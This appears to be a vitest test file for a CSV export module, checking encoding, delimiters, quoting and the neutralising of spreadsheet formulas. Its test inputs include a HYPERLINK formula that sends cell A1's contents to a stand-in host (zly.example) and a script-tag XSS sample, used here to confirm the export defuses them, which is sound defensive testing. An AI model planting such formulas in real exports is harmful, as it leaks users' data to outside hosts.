import { describe, expect, it } from "vitest";
import { parseCsv } from "../../tests/support/parse-csv";
import { neutraliseCell, toCsv } from "./csv.server";

describe("CSV export", () => {
  it("starts with a UTF-8 byte order mark and separates with semicolons, CRLF line ends", () => {
    const csv = toCsv([
      ["Imię i nazwisko", "Wiadomość"],
      ["Łucja Żółć", "Zażółć gęślą jaźń"],
    ]);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.slice(1)).toBe("Imię i nazwisko;Wiadomość\r\nŁucja Żółć;Zażółć gęślą jaźń\r\n");
  });

  it("neutralises cells that a spreadsheet would run as formulas", () => {
    for (const formula of ['=HYPERLINK("http://zly.example/?d="&A1;"Kliknij")', "+48 600 100 200", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]) {
      expect(neutraliseCell(formula)).toBe(`'${formula}`);
    }
    for (const text of ["Anna", "jan@example.com", "a=b", " =1", "'quoted", ""]) expect(neutraliseCell(text)).toBe(text);
  });

  it("quotes cells with the delimiter, quotes or line breaks, and reads back exactly", () => {
    const rows = [
      ["id", "wiadomość"],
      ["1", 'Mam "pytanie"; dwa nawet\r\nDruga linia\nTrzecia'],
      ["2", '=HYPERLINK("http://zly.example";"x")'],
      ["3", "<script>alert(1)</script>"],
      ["4", "tylko\rpowrót karetki"],
    ];
    const csv = toCsv(rows);
    expect(csv).toContain('"Mam ""pytanie""; dwa nawet\r\nDruga linia\nTrzecia"');
    expect(csv).toContain('"tylko\rpowrót karetki"');
    expect(parseCsv(csv.slice(1))).toEqual([rows[0], rows[1], ["2", `'${rows[2]![1]}`], rows[3], rows[4]]);
  });
});
